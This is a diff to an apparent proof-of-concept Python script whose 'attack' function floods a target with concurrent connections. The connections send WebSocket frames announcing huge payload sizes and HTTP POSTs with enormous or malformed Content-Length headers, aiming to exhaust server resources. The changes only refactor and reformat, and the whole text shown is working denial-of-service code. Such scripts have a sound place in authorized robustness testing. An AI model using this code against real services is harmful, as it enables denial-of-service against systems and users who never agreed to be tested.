@@ -10,12 +10,14 @@ import asyncio
 
 from lines import Line, request, web_socket
 
+PROOF = "frames"
+
 
 def announced(size, opcode=0x81):
     return bytes((opcode, 0xFF)) + size.to_bytes(8, "big") + b"\0\0\0\0"
 
 
-FRAMES = [announced(1 << 62), announced((1 << 64) - 1), announced(1 << 31), announced(256 << 10), announced(1 << 62, 0x89)]
+FRAMES = [announced(size) for size in (1 << 62, (1 << 64) - 1, 1 << 31, 256 << 10)] + [announced(1 << 62, opcode=0x89)]
 BODIES = [
     request("POST", "/api/rooms/x/elements", f"Content-Length: {1 << 62}"),
     request("POST", "/api/rooms/x/elements", f"Content-Length: {'9' * 40}"),
@@ -27,7 +29,8 @@ BODIES = [
 
 async def attack(target):
     await asyncio.gather(
-        *(target.crowd(6, announce_frame, start) for start in FRAMES), *(target.crowd(5, announce_body, start) for start in BODIES)
+        *(target.crowd(6, announce_frame, start) for start in FRAMES),
+        *(target.crowd(5, announce_body, start) for start in BODIES),
     )
 
 
